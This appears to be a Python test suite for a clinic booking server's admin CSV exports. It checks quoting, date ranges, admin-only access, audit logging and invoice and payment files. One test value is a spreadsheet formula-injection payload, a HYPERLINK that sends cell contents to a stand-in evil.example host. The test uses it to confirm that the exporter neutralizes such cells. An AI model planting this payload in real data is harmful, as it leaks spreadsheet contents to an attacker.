"""The admin's CSV exports against the real server (clock pinned to Tuesday
2026-11-24 09:00 in Anchorage): clients and appointments as RFC 4180 files
that Python's csv module reads back, the formula guard on cells a spreadsheet
would run, the day range in the clinic's zone, who may download (the admin
only), strict parameters, and the audit row of every export.

usage: test_export.py PATH/TO/knead"""
import csv
import io
import json
import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import Browser, Server, run_suite, signed_in, text  # noqa: E402

KNEAD = sys.argv[1] if len(sys.argv) > 1 else 'build-san/knead'
NOW = '2026-11-24T09:00:00-09:00'
ADMIN = 'admin@chugachbodywork.example'
DESK = 'desk@chugachbodywork.example'
MAREN = 'maren@chugachbodywork.example'
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
S = None


def setUpModule():
    global S
    S = Server(KNEAD, extra=['--now', NOW]).start()


def tearDownModule():
    harness.finish(S)


def one(sql, *args):
    return S.sql(sql, *args)[0][0]


def book(start, name, email, phone='907 555 0100', notes=''):
    body = json.dumps({'service': 'deep-tissue-60', 'therapist': 'maren-holt', 'start': start,
                       'client': {'name': name, 'email': email, 'phone': phone}, 'notes': notes})
    st, _, out = S.request('POST', '/api/v1/appointments', body=body.encode(),
                           headers={'Content-Type': 'application/json'})
    assert st == 201, (st, out)
    return json.loads(out)['id']


def exports(record):
    return one("SELECT count(*) FROM audit_log WHERE action = 'export' AND record = ?1", record)


def rows(body):
    return list(csv.DictReader(io.StringIO(body, newline='')))


class Export(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        harness.clear_failures(S)
        cls.a1 = book('2026-11-25T10:00:00-09:00', 'Erin Export', 'erin@example.com',
                      notes='Left shoulder, "the usual", please')
        cls.a2 = book('2026-11-26T10:00:00-09:00', EVIL, 'evil@example.com', phone='+1 907 555 0166',
                      notes='-2+3')
        cls.a3 = book('2026-12-08T10:00:00-09:00', 'Erin Export', 'erin@example.com')
        cls.admin = signed_in(ADMIN, server=S)

    def test_clients_csv(self):
        before = exports('clients')
        st, h, body = self.admin.get('/admin/export/clients.csv')
        self.assertEqual(st, 200)
        self.assertEqual(h['content-type'], 'text/csv; charset=utf-8; header=present')
        self.assertRegex(h['content-disposition'], r'^attachment; filename="clients-2026-11-24\.csv"$')
        self.assertIn('no-store', h.get('cache-control', ''))
        self.assertTrue(body.startswith('id,name,email,phone,created_at,appointments\r\n'), body[:80])
        self.assertTrue(body.endswith('\r\n'))
        got = {r['email']: r for r in rows(body)}
        self.assertEqual(len(got), one('SELECT count(*) FROM clients'))
        self.assertEqual(got['erin@example.com']['name'], 'Erin Export')
        self.assertEqual(got['erin@example.com']['appointments'], '2')
        self.assertTrue(got['erin@example.com']['created_at'].endswith('-09:00'))
        # a cell a spreadsheet would run is text: a leading apostrophe, the rest as it was
        self.assertEqual(got['evil@example.com']['name'], "'" + EVIL)
        self.assertEqual(got['evil@example.com']['phone'], "'+1 907 555 0166")
        self.assertNotIn('\r\n=', body)
        self.assertNotIn(',=', body)
        self.assertEqual(exports('clients'), before + 1)
        row = S.sql("SELECT actor, role, via, client_id FROM audit_log WHERE action = 'export'"
                    ' ORDER BY id DESC LIMIT 1')[0]
        self.assertEqual(row, (ADMIN, 'admin', 'staff', 0))

    def test_appointments_csv_by_day_range(self):
        before = exports('appointments')
        st, h, body = self.admin.get('/admin/export/appointments.csv?from=2026-11-25&to=2026-11-26')
        self.assertEqual(st, 200, body[:300])
        self.assertRegex(h['content-disposition'],
                         r'^attachment; filename="appointments-2026-11-25-to-2026-11-26\.csv"$')
        got = {int(r['id']): r for r in rows(body)}
        self.assertIn(self.a1, got)
        self.assertIn(self.a2, got)
        self.assertNotIn(self.a3, got)  # December 8: outside the range
        r = got[self.a1]
        self.assertEqual((r['date'], r['time'], r['start'], r['end']),
                         ('2026-11-25', '10:00', '2026-11-25T10:00:00-09:00', '2026-11-25T11:00:00-09:00'))
        self.assertEqual((r['service_id'], r['therapist_id'], r['therapist']),
                         ('deep-tissue-60', 'maren-holt', 'Maren Holt'))
        self.assertEqual((r['client_name'], r['status'], r['cancelled_at']), ('Erin Export', 'booked', ''))
        self.assertEqual(r['notes'], 'Left shoulder, "the usual", please')  # quoted, quotes doubled
        self.assertEqual(got[self.a2]['client_name'], "'" + EVIL)
        self.assertEqual(got[self.a2]['notes'], "'-2+3")
        self.assertEqual(exports('appointments'), before + 1)
        # one day: its own appointments only
        st, _, body = self.admin.get('/admin/export/appointments.csv?from=2026-12-08&to=2026-12-08')
        self.assertEqual([int(r['id']) for r in rows(body)], [self.a3])

    def test_range_defaults_to_this_year(self):
        st, h, body = self.admin.get('/admin/export/appointments.csv')
        self.assertEqual(st, 200)
        self.assertRegex(h['content-disposition'], r'filename="appointments-2026-01-01-to-2026-12-31\.csv"')
        self.assertTrue({self.a1, self.a2, self.a3} <= {int(r['id']) for r in rows(body)})
        st, h, body = self.admin.get('/admin/export/appointments.csv?from=2026-12-01')
        self.assertRegex(h['content-disposition'], r'filename="appointments-2026-12-01-to-2026-12-31\.csv"')
        self.assertEqual([int(r['id']) for r in rows(body)], [self.a3])

    def test_page_links_the_downloads(self):
        st, _, page = self.admin.get('/admin/export')
        self.assertEqual(st, 200)
        self.assertIn('href="/admin/export/clients.csv"', page)
        self.assertIn('action="/admin/export/appointments.csv"', page)
        self.assertIn('value="2026-01-01"', page)
        self.assertIn('href="/admin/export"', self.admin.get('/admin')[2])

    def test_bad_parameters_name_the_problem_and_export_nothing(self):
        before = exports('appointments') + exports('clients')
        for q, word in (('?from=2026-11-25&to=11/30/2026', "'to'"),
                        ('?from=2026-11-31&to=2026-12-01', "'from'"),
                        ('?from=2026-12-01&to=2026-11-01', 'on or after'),
                        ('?from=2020-01-01&to=2026-01-01', '731 days'),
                        ('?from=2026-11-25&to=2026-11-26&format=xls', "'format'"),
                        ('?from=2026-11-25&from=2026-11-26&to=2026-11-26', 'more than once')):
            st, _, page = self.admin.get('/admin/export/appointments.csv' + q)
            self.assertEqual(st, 400, q)
            self.assertIn(word, text(page), q)
        st, _, page = self.admin.get('/admin/export/clients.csv?all=1')
        self.assertEqual(st, 400)
        self.assertEqual(exports('appointments') + exports('clients'), before)

    def test_only_the_admin(self):
        before = exports('appointments') + exports('clients')
        paths = ('/admin/export', '/admin/export/clients.csv',
                 '/admin/export/appointments.csv?from=2026-11-25&to=2026-11-26',
                 '/admin/export/invoices.csv', '/admin/export/payments.csv')
        for p in paths:
            st, h, _ = Browser(S).get(p)
            self.assertEqual(st, 303, p)  # sent to sign in
            self.assertTrue(h['location'].startswith('/login'), h['location'])
        for who in (DESK, MAREN):
            b = signed_in(who, server=S)
            for p in paths:
                st, _, body = b.get(p)
                self.assertIn(st, (403, 404), (who, p))
                self.assertNotIn('erin@example.com', body)
        b = harness.client_account(S)
        for p in paths:
            st, _, body = b.get(p)
            self.assertIn(st, (403, 404), p)
        self.assertEqual(exports('appointments') + exports('clients'), before)

    @harness.sqlite_only("SQLite's write lock (BEGIN IMMEDIATE)")
    def test_busy_database_answers_503_and_exports_nothing(self):
        """Another program holds the write lock past the busy timeout: the
        export (its audit row is a write) is a 503 page, not half a file."""
        import sqlite3
        before = exports('clients')
        lock = sqlite3.connect(S.db, timeout=0, isolation_level=None)
        try:
            lock.execute('BEGIN IMMEDIATE')
            st, h, body = self.admin.get('/admin/export/clients.csv')
        finally:
            lock.execute('ROLLBACK')
            lock.close()
        self.assertEqual(st, 503)
        self.assertTrue(h['content-type'].startswith('text/html'), h['content-type'])
        self.assertNotIn('content-disposition', h)
        self.assertNotIn('erin@example.com', body)
        self.assertIn('busy', text(body))
        self.assertEqual(exports('clients'), before)
        st, _, body = self.admin.get('/admin/export/clients.csv')  # and then it works
        self.assertEqual(st, 200)

    def test_invoices_and_payments(self):
        """A visit checked out at the desk: its invoice and its card payment
        are in the files of their day, amounts as plain decimals."""
        import re
        once = re.compile(r'name="once" value="([^"]+)"')
        desk = signed_in(DESK, server=S)
        st, h, _ = desk.post('/staff/book', {'service': 'deep-tissue-60', 'therapist': 'tomas-reyes',
                                             'start': '2026-11-24T10:00:00-09:00', 'note': '',
                                             'name': 'Ivan Invoice', 'email': 'ivan@example.com',
                                             'phone': ''})
        self.assertEqual(st, 303)
        aid = int(h['location'].rsplit('/', 1)[1])
        self.assertEqual(desk.post('/staff/appointments/%d/status' % aid, {'status': 'checked_in'})[0], 303)
        _, _, page = desk.get('/staff/appointments/%d/checkout' % aid)
        st, _, page = desk.post('/staff/appointments/%d/checkout' % aid,
                                {'once': once.findall(page)[0], 'action': 'issue', 'discount_kind': 'none'})
        self.assertEqual(st, 303, text(page)[:500])
        inv, number, total = S.sql('SELECT id, number, total_cents FROM invoices WHERE appointment_id = ?1', aid)[0]
        _, _, page = desk.get('/staff/appointments/%d/checkout' % aid)
        st, _, page = desk.post('/staff/invoices/%d/payments' % inv,
                                {'once': once.findall(page)[0], 'method': 'card', 'reference': 'visa 4242',
                                 'amount': '%d.%02d' % (total // 100, total % 100)})
        self.assertIn(st, (200, 303), text(page)[:500])
        before = exports('invoices') + exports('payments')
        st, h, body = self.admin.get('/admin/export/invoices.csv?from=2026-11-24&to=2026-11-24')
        self.assertEqual(st, 200)
        self.assertRegex(h['content-disposition'], r'filename="invoices-2026-11-24-to-2026-11-24\.csv"')
        got = [r for r in rows(body) if r['number'] == str(number)]
        self.assertEqual(len(got), 1, body[:400])
        r = got[0]
        self.assertEqual((r['client_name'], r['appointment_id'], r['date']), ('Ivan Invoice', str(aid), '2026-11-24'))
        self.assertEqual(r['total'], '%d.%02d' % (total // 100, total % 100))
        self.assertEqual(r['paid'], r['total'])
        self.assertEqual(r['balance'], '0.00')
        st, h, body = self.admin.get('/admin/export/payments.csv?from=2026-11-24&to=2026-11-24')
        self.assertEqual(st, 200)
        pays = [p for p in rows(body) if p['invoice_id'] == str(inv)]
        self.assertEqual([(p['method'], p['amount'], p['status']) for p in pays],
                         [('card', r['total'], 'completed')])
        st, _, body = self.admin.get('/admin/export/invoices.csv?from=2026-11-25&to=2026-11-25')
        self.assertEqual(rows(body), [])  # another day: none
        self.assertEqual(exports('invoices') + exports('payments'), before + 3)


if __name__ == '__main__':
    run_suite(globals())
